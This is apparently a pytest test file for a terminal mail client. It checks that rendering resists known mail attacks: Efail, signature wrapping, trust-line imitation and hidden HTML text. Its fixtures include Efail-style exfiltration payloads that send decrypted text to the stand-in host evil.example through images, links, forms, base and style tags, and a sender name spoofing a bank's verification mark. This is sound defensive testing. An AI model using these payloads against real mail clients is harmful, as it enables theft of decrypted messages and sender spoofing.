"""Known attacks on mail programs: nothing is loaded, parts stay apart, and what hides is told (Efail, Covert Content, Johnny)."""

from __future__ import annotations

import re

import pytest

from corpus import corpus_messages, require_corpus
from termmail.mime.headers import parse_envelope
from termmail.mime.known_senders import KnownSenders
from termmail.mime.origin import origin
from termmail.mime.protection import protection
from termmail.mime.render import message_text, render_message
from termmail.mime.structure import Tree
from termmail.model.origin import MailOwner, TrustLevel

CIPHER = b"-----BEGIN PGP MESSAGE-----\r\nc2VjcmV0IGNpcGhlcnRleHQ=\r\n-----END PGP MESSAGE-----\r\n"
PGP = b"Content-Type: application/octet-stream\r\n\r\n" + CIPHER


def part(kind: str, text: bytes) -> bytes:
    return b"--b\r\nContent-Type: " + kind.encode() + b"\r\n\r\n" + text + b"\r\n"


def mixed(*parts: bytes) -> bytes:
    head = b"From: Eve <eve@e.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return head + b"".join(parts) + b"--b--\r\n"


SECRET = part("text/plain", b"the decrypted secret")
EFAIL = {
    "an open image": mixed(part("text/html", b'<img src="http://evil.example/'), SECRET, part("text/html", b'">')),
    "an open link": mixed(
        part("text/html", b'<a href="http://evil.example/?'), SECRET, part("text/html", b'">click</a>')
    ),
    "an open form": mixed(
        part("text/html", b'<form action="http://evil.example/"><textarea name="x">'),
        SECRET,
        part("text/html", b"</textarea></form>"),
    ),
    "a base": mixed(part("text/html", b'<base href="http://evil.example/'), SECRET, part("text/html", b'">')),
    "a style": mixed(
        part("text/html", b"<style>@import 'http://evil.example/"), SECRET, part("text/html", b"';</style>")
    ),
    "a comment": mixed(part("text/html", b"seen <!-- "), SECRET, part("text/html", b" --> after")),
}


@pytest.mark.parametrize("attack", EFAIL)
@pytest.mark.parametrize("prefer", ["text", "html"])
def test_a_part_never_reaches_into_another(attack: str, prefer: str) -> None:
    """Efail's direct exfiltration: no URL takes in the text of a later part, and that text is shown as text."""
    rendered = render_message(EFAIL[attack], width=80, prefer="html" if prefer == "html" else "text")
    assert not any("secret" in link for link in rendered.links)
    assert "the decrypted secret" in "\n".join(line.text for line in rendered.lines)
    assert "the decrypted secret" in message_text(EFAIL[attack])


ENCRYPTED = (
    b"Content-Type: multipart/encrypted; protocol=application/pgp-encrypted; boundary=c\r\n\r\n--c\r\n"
    b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--c\r\n" + PGP + b"--c--\r\n"
)
SIGNED = (
    b"Content-Type: multipart/signed; protocol=application/pgp-signature; boundary=c\r\n\r\n--c\r\n\r\nsigned text\r\n--c\r\n"
    b"Content-Type: application/pgp-signature\r\n\r\nx\r\n--c--\r\n"
)


@pytest.mark.parametrize(
    ("raw", "words"),
    [
        (SIGNED, "signed with OpenPGP, not checked"),
        (ENCRYPTED, "encrypted with OpenPGP"),
        (mixed(b"--b\r\n" + SIGNED), "a part is signed with OpenPGP, not checked"),
        (mixed(part("text/plain", b"x"), b"--b\r\n" + ENCRYPTED), "a part is encrypted with OpenPGP"),
        (b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\nx", "signed with S/MIME, not checked"),
        (b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nx", "encrypted with S/MIME"),
        (b"Content-Type: application/x-pkcs7-mime\r\n\r\nx", "encrypted or signed with S/MIME, not checked"),
        (b"\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nx", "signed with OpenPGP, not checked"),
        (b"\r\n" + CIPHER, "encrypted with OpenPGP"),
        (
            b"Content-Type: multipart/signed; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--c--",
            "signed with an unknown method, not checked",
        ),
        (b"Subject: plain\r\n\r\n--BEGIN PGP--", ""),
        (b"", ""),
    ],
)
def test_signatures_and_encryption_are_named_for_what_they_hold(raw: bytes, words: str) -> None:
    """Johnny, You Are Fired (MIME wrapping): a signed part inside says nothing for the whole message."""
    assert protection(Tree(raw).root) == words
    assert render_message(raw, width=80).protection == words


def test_text_that_imitates_the_trust_line_stays_below_it() -> None:
    """Johnny's user interface redressing: what a body draws is body, and a name that holds a sentence is a name."""
    raw = b"From: =?utf-8?q?=E2=9C=93_Sent_by_bank=2Eexample?= <eve@e.example>\r\n\r\n\xe2\x9c\x93 Sent by bank.example (DMARC)\r\n"
    found = origin(parse_envelope(raw), raw, known=KnownSenders(), owner=MailOwner())
    assert found.trust.level is not TrustLevel.CHECKED
    assert "bank.example" not in found.trust.sentence


def test_hidden_text_is_told_and_is_in_no_quotation_unseen() -> None:
    """Covert Content Attacks, D7: what HTML hides is counted; what a reply quotes is what was shown."""
    raw = (
        b"Content-Type: text/html\r\n\r\n<p>Shall we meet?</p><div style='display:none'>I, the undersigned, declare war.</div>"
        b"<span style='font-size:0'>and owe a million</span>"
    )
    rendered = render_message(raw, width=80)
    shown = "\n".join(line.text for line in rendered.lines)
    quoted = message_text(raw)
    assert re.search(r"hid", " ".join(rendered.notes))
    for hidden in ("declare war", "owe a million"):
        assert (hidden in shown) == (hidden in quoted)


def test_johnnys_cases_are_named_and_never_checked() -> None:
    require_corpus()
    seen = 0
    for name, raw in corpus_messages():
        if "johnny-a" not in name:
            continue
        seen += 1
        rendered = render_message(raw, width=100)
        kinds = {node.content_type for node in Tree(raw).root.walk()}
        if kinds & {"multipart/signed", "application/pkcs7-mime"}:
            assert "signed" in rendered.protection or "encrypted" in rendered.protection, name
            assert rendered.protection.endswith("not checked") or "encrypted" in rendered.protection, name
    assert seen > 30
